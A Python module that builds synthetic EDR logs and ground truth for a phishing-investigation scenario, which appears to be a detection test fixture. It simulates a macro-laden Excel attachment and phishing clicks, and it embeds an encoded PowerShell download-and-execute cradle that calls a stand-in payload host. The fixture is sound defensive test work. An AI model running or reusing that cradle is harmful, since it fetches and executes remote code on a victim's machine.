"""The endpoint traces of the scenario (fixtures/scenario/edr/ and identities.csv): a working
day on every host, the planted traces of the malicious attachment and of the phishing clicks,
benign look-alikes that must not correlate, and a day three days earlier on a few hosts.

It only reads what the Mimecast part built (users, world, attacks, messages) and draws every
random choice from its own rng_for("edr/...") streams, so the Mimecast files stay
byte-identical."""

from __future__ import annotations

import base64
import calendar

from ..writers.falcon import device_path
from ..writers.mde import mde_dns_fields
from .common import DAY, ORG_DOMAIN, at, iso_utc, rng_for, time_tuple
from .edr_files import write_edr_files
from .edr_truth import edr_truth
from .hosts import (APP_DOMAINS, BACKGROUND_DOMAINS, COMMON_DOMAINS, DOC_APP, IMAGE_SIZE, INTRANET_IP, POWERSHELL,
                    PRE_DAY, PROTECT_HOST, TPMS, EdrModel, edr_hashes)
from .identities import build_identities
from .workday import host_day
from .world import PARTNER_DOMAINS

PAYLOAD_HOST = "files.halvorsen-billing.example"


def generate_edr(out_dir, users, world, main):
    """Build the endpoint model, write the EDR exports and identities.csv into out_dir, and
    return the "edr" section of the ground truth."""
    s = EdrScenario(users, world, main)
    s.intune_noise()
    s.benign_attachment_opens()
    s.attachment_traces()
    s.phish_click_traces()
    s.benign_lookalikes()
    s.pre_campaign_day()
    written = write_edr_files(out_dir, s)
    return edr_truth(s, users, written)


def sec(x):
    return int(x * 1000)


class EdrScenario:
    """The hosts, who plays which role, the addresses of the world they reach, the event models
    of the day (M) and of 2026-10-30 (PM), and every planted event by tag."""

    def __init__(self, users, world, main):
        domains, _junk, _junk_ips, _internal, pool = world
        self.main = main
        attacks = main["attacks"]
        self.a1 = next(a for a in attacks if a["id"] == "malicious-attachment")
        self.a2 = next(a for a in attacks if a["id"] == "credential-phish-url")
        self.hosts, self.roles, self.pair, self.directory = build_identities(users, attacks, rng_for("edr/identities"))
        self.by_email = {h.email: h for h in self.hosts}
        self.addresses(domains, pool)
        self.M = M = EdrModel(rng_for("edr/events"))
        self.nr = nr = rng_for("edr/noise")
        self.attack_people = {v for k, v in self.roles.items() if not k.startswith("negative")}
        self.sessions = {}
        for h in self.hosts:
            self.sessions[h.email] = host_day(M, h, nr, DAY, self.world_ips, self.partner_hosts,
                                              attack_host=h.email in self.attack_people)
        self.planted = {}   # tag -> description (filled with file/line after writing)
        self.PM = None
        self.pr = rng_for("edr/planted")

    def addresses(self, domains, pool):
        """Documentation ranges left over by the Mimecast world, never reused."""
        spare = list(pool)
        self.partner_hosts = sorted(domains[d]["link_host"] for d in PARTNER_DOMAINS)
        world_ips = {}
        for d in COMMON_DOMAINS + BACKGROUND_DOMAINS + sorted(set(APP_DOMAINS.values())) + self.partner_hosts:
            if d not in world_ips:
                world_ips[d] = INTRANET_IP if d.endswith("." + ORG_DOMAIN) else spare.pop()
        self.phish_host = self.a2["url"]["host"]
        self.phish_ip = spare.pop()
        self.protect_ip = spare.pop()
        self.payload_host = PAYLOAD_HOST
        self.payload_ip = spare.pop()
        world_ips.update({self.phish_host: self.phish_ip, PROTECT_HOST: self.protect_ip,
                          self.payload_host: self.payload_ip, self.a2["url"]["registrable_domain"]: self.phish_ip})
        self.world_ips = world_ips

    def tag(self, name, **info):
        self.planted[name] = info
        return name

    def intune_noise(self):
        """One command line with an embedded CRLF (Intune detection script), on an MDE host."""
        M, tag = self.M, self.tag
        self.intune_host = h = self.nr.choice([h for h in self.hosts if h.product == "mde" and h.email not in self.attack_people])
        ae = M.proc(h, "AgentExecutor.exe", at(DAY, 11, 3, 17, 250),
                    M.stub(h, "services.exe"), user="system", doc="c5d8e7f1-0a2b-4c6d-9e8f-1a2b3c4d5e6f_1")
        M.proc(h, "powershell.exe", at(DAY, 11, 3, 18, 4), ae, user="system",
               cmd='"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -ExecutionPolicy Bypass '
                   '-Command "$svc = Get-Service -Name \'IntuneManagementExtension\', \'WinDefend\'\r\n'
                   'if ($svc.Status -contains \'Stopped\') { exit 1 } else { exit 0 }"',
               tag=tag("noise/embedded-newline", step="benign Intune detection script run as SYSTEM; the only "
                       "command line with an embedded CRLF inside quotes",
                       expect={"ActionType": "ProcessCreated", "FileName": "powershell.exe",
                               "InitiatingProcessFileName": "AgentExecutor.exe"}), prec=7)

    def benign_attachment_opens(self):
        """Safe partner attachments from the Mimecast data, written to the Outlook cache and opened."""
        M, nr = self.M, self.nr
        cands = []
        for m in self.main["messages"]:
            if m.kind == "partner" and m.atts:
                for rc in m.rcpts:
                    for a in m.atts:
                        cands.append((m, rc, a))
        nr.shuffle(cands)
        self.benign_opens = benign_opens = []
        for m, rc, a in cands:
            if len(benign_opens) >= 24:
                break
            h = self.by_email[rc]
            L, E = self.sessions[rc]
            t = m.t + nr.randrange(15 * 60_000, 3 * 3600_000)
            if not (h.procs["outlook"].t // TPMS + 5000 < t < E - 120_000):
                continue
            path = f"C:\\Users\\{h.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{nr.choice(h.cache_dirs)}\\{a['name']}"
            M.file(h, h.procs["outlook"], t, path, {k: a[k] for k in ("md5", "sha1", "sha256")}, a["size"])
            app = DOC_APP.get(a["ext"])
            if app:
                M.proc(h, app, t + nr.randrange(900, 4000), h.procs["outlook"], doc=path)
            benign_opens.append({"user": rc, "host": h.name, "file": a["name"], "sha256": a["sha256"],
                                 "time": iso_utc(t)})

    # ---- planted: the malicious attachment ------------------------------------------------------

    def attachment_traces(self):
        att = self.att = self.a1["attachment"]
        self.att_hashes = {"md5": att["md5"], "sha1": att["sha1"], "sha256": att["sha256"]}
        self.deliveries = {x["user"]: x["delivered_at"] for x in self.a1["releases"]}
        self.attachment_executed()
        self.attachment_opened()
        self.attachment_name_only()

    def delivered_ms(self, user):
        return calendar.timegm(time_tuple(self.deliveries[user])) * 1000

    def outlook_cache(self, h, name):
        return (f"C:\\Users\\{h.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                f"{self.pr.choice(h.cache_dirs)}\\{name}")

    def attachment_executed(self):
        """Execution, hash match (MDE): the macro's PowerShell calls the payload host."""
        M, pr, tag, att = self.M, self.pr, self.tag, self.att
        payload_host, payload_ip = self.payload_host, self.payload_ip
        h = self.by_email[self.roles["attachment_execution"]]
        t = self.delivered_ms(h.email) + sec(100) + pr.randrange(1000)
        path = self.outlook_cache(h, att["name"])
        M.file(h, h.procs["outlook"], t, path, self.att_hashes, att["size"], prec=7,
               tag=tag("a1/exec/write", step="attachment written to the Outlook cache", stage="interaction",
                       expect={"ActionType": "FileCreated", "SHA256": att["sha256"], "FileName": att["name"]}))
        # The MDE export of this host holds what Excel started, not Excel's own start (an export
        # filtered to script hosts): that the attachment was opened shows only in the parent
        # command line of the PowerShell row.
        excel = M.proc(h, "EXCEL.EXE", t + sec(4.2), h.procs["outlook"], doc=path, prec=7, exported=False)
        self.script = script = "IEX (New-Object Net.WebClient).DownloadString('https://" + payload_host + "/q/inv.ps1')"
        enc = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
        ps = M.proc(h, "powershell.exe", t + sec(11.7), excel, prec=7,
                    cmd=f"powershell.exe -NoP -NonI -W Hidden -enc {enc}",
                    tag=tag("a1/exec/powershell", step="EXCEL.EXE, which opens the attachment (its command line names it), spawns powershell.exe with an encoded command",
                            stage="execution",
                            expect={"ActionType": "ProcessCreated", "FileName": "powershell.exe",
                                    "InitiatingProcessFileName": "EXCEL.EXE"}))
        M.dns(h, ps, t + sec(12.9), payload_host, payload_ip, prec=7,
              tag=tag("a1/exec/payload-dns", step="powershell resolves the payload host", stage="command-and-control",
                      expect={"ActionType": "DnsConnectionInspected",
                              "AdditionalFields": mde_dns_fields(payload_host, payload_ip)}))
        M.conn(h, ps, t + sec(13.1), payload_host, payload_ip, prec=7,
               tag=tag("a1/exec/payload-connect", step="powershell connects to the payload host", stage="command-and-control",
                       expect={"ActionType": "ConnectionSuccess", "RemoteIP": payload_ip,
                               "InitiatingProcessFileName": "powershell.exe"}))

    def attachment_opened(self):
        """Opened, hash match (CrowdStrike)."""
        M, pr, tag, att = self.M, self.pr, self.tag, self.att
        h = self.by_email[self.roles["attachment_opened"]]
        t = self.delivered_ms(h.email) + sec(192) + pr.randrange(1000)
        path = self.outlook_cache(h, att["name"])
        M.file(h, h.procs["outlook"], t, path, self.att_hashes, att["size"], prec=7,
               tag=tag("a1/opened/write", step="attachment written to the Outlook cache", stage="interaction",
                       expect={"#event_simpleName": "OoxmlFileWritten", "SHA256HashData": att["sha256"],
                               "TargetFileName": device_path(path)}))
        M.proc(h, "EXCEL.EXE", t + sec(3.4), h.procs["outlook"], doc=path, prec=7,
               tag=tag("a1/opened/open", step="EXCEL.EXE opens the attachment", stage="interaction",
                       expect={"#event_simpleName": "ProcessRollup2", "ParentBaseFileName": "OUTLOOK.EXE",
                               "UserName": h.sam}))

    def attachment_name_only(self):
        """Mimecast's rewritten copy, name-only match (SentinelOne)."""
        M, pr, tag, att = self.M, self.pr, self.tag, self.att
        h = self.by_email[self.roles["attachment_name_only"]]
        t = self.delivered_ms(h.email) + sec(361) + pr.randrange(1000)
        self.rewritten = rewritten = edr_hashes("mimecast-rewritten/" + att["name"])
        self.rname = rname = att["name"].replace(".xlsm", " (1).xlsm")
        path = self.outlook_cache(h, rname)
        M.file(h, h.procs["outlook"], t, path, rewritten, att["size"] - 6_127, prec=7,
               tag=tag("a1/name/write", step="rewritten attachment written to the Outlook cache (other hash)",
                       stage="interaction",
                       expect={"Event Type": "File Creation", "Target File Path": path,
                               "Target File SHA256": rewritten["sha256"]}))
        M.proc(h, "EXCEL.EXE", t + sec(5.1), h.procs["outlook"], doc=path, prec=7,
               tag=tag("a1/name/open", step="EXCEL.EXE opens the rewritten copy", stage="interaction",
                       expect={"Event Type": "Process Creation", "Target Process Name": "EXCEL.EXE"}))

    # ---- planted: the phishing clicks -----------------------------------------------------------

    def phish_click_traces(self):
        self.clicks = {c["user"]: c for c in self.a2["clickers"]}
        self.phish_download()
        self.phish_reached(self.roles["phish_directory_clicker"], "a2/directory", self.directory_rows)
        self.phish_reached(self.roles["phish_local_part_clicker"], "a2/local_part", self.local_part_rows)
        # the click was blocked by Mimecast: only the rewrite host, never the phishing host
        h = self.by_email[self.roles["phish_blocked"]]
        t = self.click_ms(h.email) + 1000 + self.pr.randrange(200, 700)
        self.via_protect(h, h.procs["browser"], t, "a2/blocked/protect-dns")

    def click_ms(self, user):
        return calendar.timegm(time_tuple(self.clicks[user]["time"])) * 1000

    def via_protect(self, h, p, t, key):
        protect_ip = self.protect_ip
        exp = ({"ActionType": "DnsConnectionInspected", "AdditionalFields": mde_dns_fields(PROTECT_HOST, protect_ip)}
               if h.product == "mde" else {"#event_simpleName": "DnsRequest", "DomainName": PROTECT_HOST}
               if h.product == "crowdstrike" else {"Event Type": "DNS Resolved", "DNS Request": PROTECT_HOST})
        self.M.dns(h, p, t + sec(0.3), PROTECT_HOST, protect_ip, prec=7,
                   tag=self.tag(key, step="the click goes through Mimecast URL Protect (context, not a match)",
                                stage="context", expect=exp))

    def phish_download(self):
        """DNS + connect, then update.exe downloaded from the phishing host and run (MDE)."""
        M, tag, phish_host, phish_ip = self.M, self.tag, self.phish_host, self.phish_ip
        h = self.by_email[self.roles["phish_download"]]
        br = h.procs["browser"]
        t = self.click_ms(h.email) + 1000 + self.pr.randrange(200, 700)
        self.via_protect(h, br, t, "a2/download/protect-dns")
        M.dns(h, br, t + sec(1.4), phish_host, phish_ip, prec=7,
              tag=tag("a2/download/dns", step="DNS query for the phishing host", stage="interaction",
                      expect={"ActionType": "DnsConnectionInspected",
                              "AdditionalFields": mde_dns_fields(phish_host, phish_ip)}))
        M.conn(h, br, t + sec(1.6), phish_host, phish_ip, scheme=True, prec=7,
               tag=tag("a2/download/connect", step="browser connects to the phishing host", stage="interaction",
                       expect={"ActionType": "ConnectionSuccess", "RemoteUrl": "https://" + phish_host,
                               "RemoteIP": phish_ip}))
        self.upd = upd = edr_hashes("image/phish/update.exe")
        self.origin = origin = f"https://{phish_host}/owa/update.exe"
        dpath = f"C:\\Users\\{h.sam}\\Downloads\\update.exe"
        M.file(h, br, t + sec(127.5), dpath, upd, IMAGE_SIZE["update.exe"], origin=(origin, phish_ip), prec=7,
               tag=tag("a2/download/file", step="browser download from the phishing host", stage="download",
                       expect={"ActionType": "FileCreated", "FileName": "update.exe", "FileOriginUrl": origin,
                               "SHA256": upd["sha256"]}))
        M.proc(h, "update.exe", t + sec(154.2), h.procs["explorer"], prec=7,
               tag=tag("a2/download/exec", step="the downloaded update.exe is started", stage="execution",
                       expect={"ActionType": "ProcessCreated", "FileName": "update.exe", "FolderPath": dpath,
                               "SHA256": upd["sha256"]}))

    def phish_reached(self, user, prefix, rows):
        """A clicker whose browser reached the phishing host: the URL Protect lookup, then the
        product's own rows."""
        h = self.by_email[user]
        br = h.procs["browser"]
        t = self.click_ms(h.email) + 1000 + self.pr.randrange(200, 700)
        self.via_protect(h, br, t, prefix + "/protect-dns")
        rows(h, br, t)

    def directory_rows(self, h, br, t):
        """DNS + connect + GET (SentinelOne, identity only through identities.csv)."""
        M, tag, phish_host, phish_ip = self.M, self.tag, self.phish_host, self.phish_ip
        M.dns(h, br, t + sec(2.1), phish_host, phish_ip, prec=7,
              tag=tag("a2/directory/dns", step="DNS query for the phishing host", stage="interaction",
                      expect={"Event Type": "DNS Resolved", "DNS Request": phish_host}))
        M.conn(h, br, t + sec(2.3), phish_host, phish_ip, prec=7,
               tag=tag("a2/directory/connect", step="browser connects to the phishing host", stage="interaction",
                       expect={"Event Type": "IP Connect", "Destination IP": phish_ip, "Destination Port": "443"}))
        M.http(h, br, t + sec(2.6), self.clicks[h.email]["url"], prec=7,
               tag=tag("a2/directory/get", step="GET of the clicked URL", stage="interaction",
                       expect={"Event Type": "GET", "URL": self.clicks[h.email]["url"]}))

    def local_part_rows(self, h, br, t):
        """DNS + connect (CrowdStrike, sAM = mail local part)."""
        M, tag, phish_host, phish_ip = self.M, self.tag, self.phish_host, self.phish_ip
        M.dns(h, br, t + sec(3.8), phish_host, phish_ip, prec=7,
              tag=tag("a2/local_part/dns", step="DNS query for the phishing host", stage="interaction",
                      expect={"#event_simpleName": "DnsRequest", "DomainName": phish_host,
                              "ContextProcessId": str(br.pid)}))
        M.conn(h, br, t + sec(4.0), phish_host, phish_ip, prec=7,
               tag=tag("a2/local_part/connect", step="browser connects to the phishing host", stage="interaction",
                       expect={"#event_simpleName": "NetworkConnectIP4", "RemoteAddressIP4": phish_ip,
                               "ContextProcessId": str(br.pid)}))

    # ---- benign look-alikes -------------------------------------------------------------------------

    def benign_lookalikes(self):
        """A file named like the attachment on a user who never got it, and a user-started
        PowerShell on the host of a recipient whose copy was held."""
        M, tag, att, world_ips = self.M, self.tag, self.att, self.world_ips
        h = self.by_email[self.roles["negative_lookalike_file"]]
        t = at(DAY, 16, 5, 41, 377)
        ph = "www.vertex-components.example"
        lurl = f"https://{ph}/portal/invoices/{att['name']}"
        lpath = f"C:\\Users\\{h.sam}\\Downloads\\{att['name']}"
        lh = edr_hashes("lookalike/" + att["name"])
        M.dns(h, h.procs["browser"], t - 900, ph, world_ips[ph], prec=7)
        M.file(h, h.procs["browser"], t, lpath, lh, 61_448, origin=(lurl, world_ips[ph]), prec=7,
               tag=tag("neg/lookalike-file", step="a file named like the attachment on the host of a user who "
                       "never received it (other hash, partner portal download)",
                       expect={"ActionType": "FileCreated", "FileName": att["name"], "SHA256": lh["sha256"]}))
        M.proc(h, "EXCEL.EXE", t + sec(6.3), h.procs["explorer"], doc=lpath, prec=7,
               tag=tag("neg/lookalike-open", step="the look-alike file opened in Excel",
                       expect={"ActionType": "ProcessCreated", "FileName": "EXCEL.EXE"}))
        h = self.by_email[self.roles["negative_powershell"]]
        t = at(DAY, 14, 25, 9, 611)
        M.proc(h, "powershell.exe", t, h.procs["explorer"], prec=7,
               cmd=f'"{POWERSHELL}" -NoProfile -ExecutionPolicy Bypass -File "C:\\Users\\{h.sam}\\OneDrive - Acme Corp\\Scripts\\Map-Drives.ps1" -Drives "S:,T:"',
               tag=tag("neg/powershell-from-explorer", step="user-started powershell (parent explorer.exe) on the "
                       "host of a recipient whose copy was held, never delivered",
                       expect={"ActionType": "ProcessCreated", "FileName": "powershell.exe",
                               "InitiatingProcessFileName": "explorer.exe"}))

    def pre_campaign_day(self):
        """2026-10-30: a few MDE hosts, one of them looks up the look-alike domain."""
        PM = self.PM = EdrModel(rng_for("edr/events-pre"))
        PM.pids = self.M.pids
        pre_r = rng_for("edr/noise-pre")
        pre_user = self.roles["negative_pre_campaign_dns"]
        by_email, phish_ip = self.by_email, self.phish_ip
        pre_hosts = sorted(pre_r.sample([h for h in self.hosts if h.product == "mde" and h.email != pre_user], 11)
                           + [by_email[pre_user]], key=lambda x: x.name)
        saved = {h.email: (h.procs, h.cache_dirs) for h in pre_hosts}
        pre_sessions = {}
        for h in pre_hosts:
            pre_sessions[h.email] = host_day(PM, h, pre_r, PRE_DAY, self.world_ips, self.partner_hosts, short=True)
        h = by_email[pre_user]
        t_pre = pre_r.randrange(h.procs["browser"].t // TPMS + 60_000, pre_sessions[pre_user][1] - 60_000)
        domain = self.a2["url"]["registrable_domain"]
        PM.dns(h, h.procs["browser"], t_pre, domain, phish_ip, prec=7,
               tag=self.tag("neg/pre-campaign-dns", step="DNS query for the look-alike registrable domain three days "
                            "before the campaign (2026-10-30)",
                            expect={"ActionType": "DnsConnectionInspected",
                                    "AdditionalFields": mde_dns_fields(domain, phish_ip)}))
        for h in pre_hosts:
            h.procs, h.cache_dirs = saved[h.email]
